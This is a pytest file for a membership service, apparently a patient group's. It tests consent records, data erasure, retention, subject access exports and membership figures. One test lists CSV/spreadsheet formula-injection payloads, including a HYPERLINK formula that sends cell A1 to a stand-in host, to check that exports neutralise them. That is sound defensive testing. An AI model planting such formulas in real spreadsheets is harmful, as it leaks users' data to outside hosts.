"""Staff membership services: records, erasure, retention, exports and figures."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC
from datetime import date
from datetime import datetime
from datetime import timedelta
from typing import Any

import openpyxl
import pytest
from sqlalchemy import select

from engage.audit.models import AuditEvent
from engage.clock import local_day
from engage.errors import Conflict
from engage.errors import PermissionDenied
from engage.extensions import db
from engage.mail.models import OutboxMessage
from engage.membership import figures
from engage.membership import lists
from engage.membership import services
from engage.membership.consent import current_consents
from engage.membership.consent import record_consents
from engage.membership.consent import wording_version
from engage.membership.models import ConsentMethod
from engage.membership.models import ContactChannel
from engage.membership.models import EqualityAnswers
from engage.membership.models import Member
from engage.membership.models import MemberStatus
from engage.membership.models import MemberSupportNeed
from engage.membership.models import MemberToken
from engage.membership.models import SupportNeed
from engage.membership.models import Tier
from engage.membership.models import TokenPurpose
from engage.membership.services import MemberData
from engage.membership.services import MemberFilter
from tests.factories import MemberFactory

NOW = datetime(2026, 3, 2, 12, 0, tzinfo=UTC)


def make_member(
    name: str = "Pat Member",
    email: str | None = "pat@example.org",
    *,
    status: MemberStatus = MemberStatus.ACTIVE,
    created_at: datetime = NOW,
    **fields: Any,
) -> Member:
    """A web-form member saved directly (no service), confirmed unless pending.

    Flushed, not committed: a job that fails after adding one rolls it back.
    """
    fields.setdefault(
        "confirmed_at", created_at if status is not MemberStatus.PENDING else None
    )
    member = MemberFactory.build(
        name=name, email=email, status=status, created_at=created_at, **fields
    )
    db.session.add(member)
    db.session.flush()
    return member


def phone_data(**overrides: Any) -> MemberData:
    values: dict[str, Any] = {
        "name": "Ruth Phone",
        "tier": Tier.GOLD,
        "email": "Ruth@Example.org",
        "phone": "07700 900123",
        "postcode": "ls1 4ap",
        "consents": {ContactChannel.EMAIL: True, ContactChannel.PHONE: True},
    }
    values.update(overrides)
    return MemberData(**values)


def events(action: str) -> list[AuditEvent]:
    return list(
        db.session.scalars(select(AuditEvent).where(AuditEvent.action == action))
    )


# Adding and changing ------------------------------------------------------------------


def test_add_member_by_phone_is_active_with_phone_consents(cast) -> None:
    member = services.add_member(
        phone_data(), method=ConsentMethod.PHONE, actor=cast["officer"], now=NOW
    )
    assert member.status is MemberStatus.ACTIVE
    assert member.joined_by is ConsentMethod.PHONE
    assert member.email == "ruth@example.org"
    assert member.phone == "07700900123"
    assert member.postcode == "LS1 4AP"
    assert {r.channel for r in member.consents} == {
        ContactChannel.EMAIL,
        ContactChannel.PHONE,
    }
    assert {r.method for r in member.consents} == {ConsentMethod.PHONE}
    assert all(r.recorded_at == NOW for r in member.consents)
    (created,) = events("create")
    assert "ruth" not in created.summary.lower()
    assert "07700" not in created.summary


def test_add_member_refuses_a_known_email(cast) -> None:
    make_member(email="ruth@example.org")
    with pytest.raises(services.DuplicateEmail):
        services.add_member(
            phone_data(), method=ConsentMethod.PAPER, actor=cast["officer"], now=NOW
        )


def test_add_member_needs_a_way_to_contact_them(cast) -> None:
    with pytest.raises(services.MemberDataError) as raised:
        services.add_member(
            phone_data(email="", phone="", consents={}),
            method=ConsentMethod.PAPER,
            actor=cast["officer"],
            now=NOW,
        )
    assert "email" in raised.value.errors


def test_add_member_checks_phone_postcode_and_consent_routes(cast) -> None:
    with pytest.raises(services.MemberDataError) as raised:
        services.add_member(
            phone_data(phone="12", postcode="nowhere"),
            method=ConsentMethod.PHONE,
            actor=cast["officer"],
            now=NOW,
        )
    assert set(raised.value.errors) == {"phone", "postcode"}
    with pytest.raises(services.MemberDataError) as raised:
        services.add_member(
            phone_data(consents={ContactChannel.POST: True}),
            method=ConsentMethod.PHONE,
            actor=cast["officer"],
            now=NOW,
        )
    assert set(raised.value.errors) == {"address"}


def test_update_member_audits_field_names_only(cast) -> None:
    member = make_member()
    changed = services.update_member(
        member,
        MemberData(
            name="Pat Member",
            tier=Tier.GOLD,
            email="pat@example.org",
            phone="07700900999",
            is_champion=True,
        ),
        actor=cast["officer"],
        now=NOW,
    )
    assert changed == ["phone", "tier", "is_champion"]
    (event,) = events("update")
    assert event.summary == "phone, tier, is_champion (tier silver→gold)"


def test_change_tier_and_withdraw_on_request(cast) -> None:
    member = make_member()
    record_consents(
        member, {ContactChannel.EMAIL: True}, method=ConsentMethod.WEB_FORM, now=NOW
    )
    services.change_tier(member, Tier.GOLD, actor=cast["officer"], now=NOW)
    services.withdraw_on_request(member, actor=cast["officer"], now=NOW)
    assert member.tier is Tier.GOLD
    assert member.status is MemberStatus.WITHDRAWN
    assert member.withdrawn_at == NOW
    assert not any(current_consents(member).values())
    history = services.member_history(member)
    # In words, as the member's page shows them: no action codes, enum values or the
    # consent wording's digest.
    assert [(e.who, e.what) for e in history if e.kind == "audit"] == [
        ("Owen Officer", "Changed: tier silver to gold"),
        ("Owen Officer", "Withdrew: active to withdrawn (staff)"),
    ]
    consents = [(e.who, e.what) for e in history if e.kind == "consent"]
    notice = re.escape(wording_version().partition("/")[0])
    assert [who for who, _ in consents] == ["Online form", "By staff"]
    assert re.fullmatch(
        f"Gave consent to contact by email, under privacy notice {notice}",
        consents[0][1],
    )
    assert re.fullmatch(
        f"Withdrew consent to contact by email, under privacy notice {notice}",
        consents[1][1],
    )


def test_member_query_searches_and_filters(cast) -> None:
    topic = lists.save_topic(None, name="Cancer", actor="system", now=NOW)
    anna = make_member("Anna Smith", "anna@example.org", postcode="LS1 4AP")
    anna.topics = [topic]
    make_member("Bob Jones", "bob@example.org", tier=Tier.GOLD, postcode="M1 1AE")
    gone = make_member("Anna Gone", "gone@example.org")
    services.erase_member(
        gone,
        actor=cast["admin"],
        reason=services.ErasureReason.MEMBER_REQUEST,
        now=NOW,
    )

    def names(**criteria: Any) -> list[str | None]:
        query = services.member_query(MemberFilter(**criteria))
        return [m.name for m in db.session.scalars(query)]

    assert names(search="ANNA") == ["Anna Smith"]
    assert names(search="ls14ap") == ["Anna Smith"]
    assert names(search="BOB@EXAMPLE") == ["Bob Jones"]
    assert names(tier=Tier.GOLD) == ["Bob Jones"]
    assert names(topic_id=topic.id) == ["Anna Smith"]
    assert names(status=MemberStatus.ERASED) == []
    assert len(names()) == 2


# Erasure and retention ----------------------------------------------------------------


def _everything_in_the_database() -> str:
    db.session.flush()
    text = []
    for table in db.metadata.sorted_tables:
        for row in db.session.execute(select(table)):
            text.append(repr(tuple(row)))
    return "\n".join(text)


def test_erase_member_leaves_no_email_or_phone_anywhere(cast) -> None:
    member = services.add_member(
        phone_data(
            address="1 High Street",
            notes="Prefers mornings",
            support_needs=[SupportNeed.OTHER],
            support_other="Loop system",
        ),
        method=ConsentMethod.PHONE,
        actor=cast["officer"],
        now=NOW,
    )
    topic = lists.save_topic(None, name="Cancer", actor="system", now=NOW)
    member.topics = [topic]
    member.equality = EqualityAnswers(ethnicity="white_roma", recorded_at=NOW)
    member.tokens.append(
        MemberToken(
            purpose=TokenPurpose.MANAGE,
            token_hash="a" * 64,
            created_at=NOW,
            expires_at=NOW + timedelta(days=1),
        )
    )
    db.session.add(
        OutboxMessage(
            to_address="ruth@example.org", subject="Welcome", body_text="Hello Ruth"
        )
    )
    db.session.flush()
    before = _everything_in_the_database()
    assert "ruth@example.org" in before
    assert "07700900123" in before

    services.erase_member(
        member,
        actor=cast["admin"],
        reason=services.ErasureReason.MEMBER_REQUEST,
        now=NOW,
    )

    after = _everything_in_the_database()
    for value in ("ruth@example.org", "07700900123", "Ruth Phone", "LS1 4AP"):
        assert value not in after
    assert "white_roma" not in after
    assert db.session.scalars(select(MemberSupportNeed)).all() == []
    kept = db.session.get(Member, member.id)
    assert kept is not None
    assert kept.status is MemberStatus.ERASED
    assert kept.erased_at == NOW
    (tombstone,) = events("erase")
    assert tombstone.actor_id == cast["admin"].id
    assert tombstone.entity_id == str(member.id)
    assert tombstone.summary == "reason: member_request"
    # Erased, so withdrawn today and no longer active.
    (active,), ((_, withdrawn),) = figures.member_counts(
        [NOW.date()], [(NOW.date(), NOW.date())]
    )
    assert (active[Tier.GOLD], withdrawn) == (0, 1)


def _withdrawn_member(days_ago: int, email: str = "pat@example.org") -> Member:
    member = make_member(
        email=email, created_at=NOW - timedelta(days=200), phone="07700900123"
    )
    member.status = MemberStatus.WITHDRAWN
    member.withdrawn_at = NOW - timedelta(days=days_ago)
    db.session.flush()
    return member


def test_apply_retention_erases_after_thirty_days_only() -> None:
    old = _withdrawn_member(31)
    recent = _withdrawn_member(29, "recent@example.org")
    assert services.apply_retention(now=NOW) == 1
    assert old.status is MemberStatus.ERASED
    assert old.email is None
    assert old.phone is None
    assert recent.status is MemberStatus.WITHDRAWN
    assert services.apply_retention(now=NOW) == 0
    assert [e.summary.split()[0] for e in events("retention")] == ["1", "0"]
    (erased,) = events("erase")
    assert erased.actor_label == "system"
    assert erased.summary == "reason: retention"


def test_apply_retention_reads_the_configured_period(app) -> None:
    app.config["MEMBER_RETENTION_DAYS"] = 60
    _withdrawn_member(31)
    assert services.apply_retention(now=NOW) == 0
    assert services.apply_retention(now=NOW + timedelta(days=30)) == 1


# Subject access and exports -----------------------------------------------------------


def test_subject_access_export_holds_everything_about_one_member(cast) -> None:
    x = services.add_member(
        phone_data(notes="Likes the newsletter"),
        method=ConsentMethod.PHONE,
        actor=cast["officer"],
        now=NOW,
    )
    x.equality = EqualityAnswers(age_band="65_74", recorded_at=NOW)
    y = make_member("Yusuf Other", "yusuf@example.org", phone="07700900555")
    services.update_member(
        y,
        MemberData(name="Yusuf Other", tier=Tier.GOLD, email="yusuf@example.org"),
        actor=cast["officer"],
        now=NOW,
    )

    data = services.subject_access_export(x, actor=cast["admin"], now=NOW)

    assert data["member"]["name"] == "Ruth Phone"
    assert data["member"]["email"] == "ruth@example.org"
    assert data["member"]["notes"] == "Likes the newsletter"
    assert data["equality_answers"]["age_band"] == "65_74"
    assert {c["channel"] for c in data["consent_history"]} == {"email", "phone"}
    assert data["current_consents"]["email"] is True
    actions = [e["action"] for e in data["audit_events"]]
    assert actions == ["create", "export"]
    text = json.dumps(data)
    assert "Yusuf" not in text
    assert "yusuf@example.org" not in text
    assert "07700900555" not in text
    (export,) = events("export")
    assert export.summary == "subject access export"


def _csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


FORMULAS = ['=HYPERLINK("http://x/?"&A1,"x")', "+SUM(1,1)", "-2+3", "@cmd"]


def test_export_members_is_formula_safe_in_csv_and_xlsx(cast) -> None:
    for index, name in enumerate(FORMULAS):
        make_member(name, f"f{index}@example.org", phone="+447700900123")
    _, mimetype, content = services.export_members(
        "csv", actor=cast["officer"], include_equality=False, now=NOW
    )
    assert mimetype.startswith("text/csv")
    header, *rows = _csv_rows(content)
    names = [row[header.index("Name")] for row in rows]
    assert sorted(names) == sorted("'" + name for name in FORMULAS)
    assert {row[header.index("Phone")] for row in rows} == {"'+447700900123"}

    filename, _, content = services.export_members(
        "xlsx", actor=cast["officer"], include_equality=False, now=NOW
    )
    assert filename == "members-2026-03-02.xlsx"
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [c for row in sheet.iter_rows(min_row=2, values_only=True) for c in row]
    assert "'+447700900123" in cells
    for name in FORMULAS:
        assert "'" + name in cells


def test_export_members_is_in_words_with_the_day_joined_as_a_date(cast) -> None:
    member = make_member("Ada Lovelace", "ada@example.org", tier=Tier.GOLD)
    member.joined_by = ConsentMethod.PAPER
    db.session.commit()
    _, _, content = services.export_members(
        "csv", actor=cast["officer"], include_equality=False, now=NOW
    )
    header, row = _csv_rows(content)
    given = dict(zip(header, row, strict=True))
    assert given["Tier"] == "Gold"
    assert given["Status"] == "Active"
    assert given["Joined by"] == ConsentMethod.PAPER.label
    assert given["Champion"] == "No"
    assert given["May contact by email"] in ("Yes", "No")
    assert not any("_" in heading for heading in header)

    _, _, content = services.export_members(
        "xlsx", actor=cast["officer"], include_equality=False, now=NOW
    )
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    header, row = list(sheet.iter_rows(max_row=2))
    joined = row[[c.value for c in header].index("Joined on")]
    assert joined.is_date
    assert joined.value.date() == local_day(member.created_at)
    assert joined.number_format == "DD/MM/YYYY"


def test_export_members_leaves_out_pending_withdrawn_and_erased(cast) -> None:
    make_member("Stays Here", "stays@example.org")
    make_member("Not Confirmed", "pending@example.org", status=MemberStatus.PENDING)
    left = make_member("Has Left", "left@example.org")
    services.withdraw_on_request(left, actor=cast["officer"], now=NOW)
    erased = make_member("Was Erased", "erased@example.org")
    services.erase_member(
        erased, actor=cast["admin"], reason=services.ErasureReason.DECEASED, now=NOW
    )
    _, _, content = services.export_members(
        "csv", actor=cast["officer"], include_equality=False, now=NOW
    )
    header, *rows = _csv_rows(content)
    assert [row[header.index("Name")] for row in rows] == ["Stays Here"]
    assert "What is your ethnic group?" not in header
    (export,) = events("export")
    assert export.summary == "export members: 1 row (csv)"


def test_export_with_equality_is_for_admins_only(cast) -> None:
    member = make_member()
    member.equality = EqualityAnswers(ethnicity="white_roma", recorded_at=NOW)
    with pytest.raises(PermissionDenied):
        services.export_members(
            "csv", actor=cast["officer"], include_equality=True, now=NOW
        )
    _, _, content = services.export_members(
        "csv", actor=cast["admin"], include_equality=True, now=NOW
    )
    header, row = _csv_rows(content)
    assert row[header.index("What is your ethnic group?")] == "White: Roma"
    (export,) = events("export")
    assert "with equality answers" in export.summary


# Figures ------------------------------------------------------------------------------


def _figures_data() -> None:
    jan = datetime(2026, 1, 10, 9, tzinfo=UTC)
    feb = datetime(2026, 2, 10, 9, tzinfo=UTC)
    make_member("A", "a@example.org", created_at=jan)  # web, active from Jan
    make_member("B", "b@example.org", created_at=jan, tier=Tier.GOLD)
    pending = make_member("C", "c@example.org", created_at=feb)
    pending.status = MemberStatus.PENDING
    pending.confirmed_at = None
    make_member(
        "D",
        None,
        created_at=feb,
        joined_by=ConsentMethod.PAPER,
        confirmed_at=None,
        address="1 Street",
    )
    left = make_member("E", "e@example.org", created_at=jan)
    left.status = MemberStatus.WITHDRAWN
    left.withdrawn_at = feb + timedelta(days=6)  # Monday 16 February
    late = make_member("F", "f@example.org", created_at=jan)
    late.confirmed_at = feb  # confirmed a month after signing up
    db.session.flush()


def test_member_counts_active_members_as_they_were_that_day() -> None:
    _figures_data()
    jan_end, feb_end, before = figures.member_counts(
        [date(2026, 1, 31), date(2026, 2, 28), date(2025, 12, 31)], []
    )[0]
    assert jan_end == {Tier.SILVER: 2, Tier.GOLD: 1}  # A, E; B
    assert feb_end == {Tier.SILVER: 3, Tier.GOLD: 1}  # A, D, F (E withdrew); B
    assert before == dict.fromkeys(Tier, 0)


def test_joins_and_withdrawals_by_month_and_week() -> None:
    _figures_data()
    months = figures.joins_and_withdrawals(
        date(2026, 1, 15), date(2026, 3, 1), period="month"
    )
    assert [(p.period_start, p.joined, p.withdrawn) for p in months] == [
        (date(2026, 1, 1), 3, 0),  # A, B, E
        (date(2026, 2, 1), 2, 1),  # D (paper), F confirmed; E withdrew
        (date(2026, 3, 1), 0, 0),
    ]
    weeks = figures.joins_and_withdrawals(
        date(2026, 2, 9), date(2026, 2, 16), period="week"
    )
    assert [(p.period_start, p.joined, p.withdrawn) for p in weeks] == [
        (date(2026, 2, 9), 2, 0),
        (date(2026, 2, 16), 0, 1),
    ]


# Practices and topics -----------------------------------------------------------------


def test_seed_topics_is_idempotent() -> None:
    assert lists.seed_topics(now=NOW) == 7
    assert lists.seed_topics(now=NOW) == 0
    assert "Mental health" in [t.name for t in lists.list_topics()]


def test_practices_are_renamed_and_retired_not_duplicated(cast) -> None:
    practice = lists.save_practice(
        None, name="Old Mill Practice", actor=cast["admin"], now=NOW
    )
    with pytest.raises(Conflict):
        lists.save_practice(
            None, name="old mill practice", actor=cast["admin"], now=NOW
        )
    lists.save_practice(
        practice, name="Old Mill Surgery", is_active=False, actor=cast["admin"], now=NOW
    )
    assert lists.practice_choices() == []
    assert [p.name for p in lists.list_practices()] == ["Old Mill Surgery"]
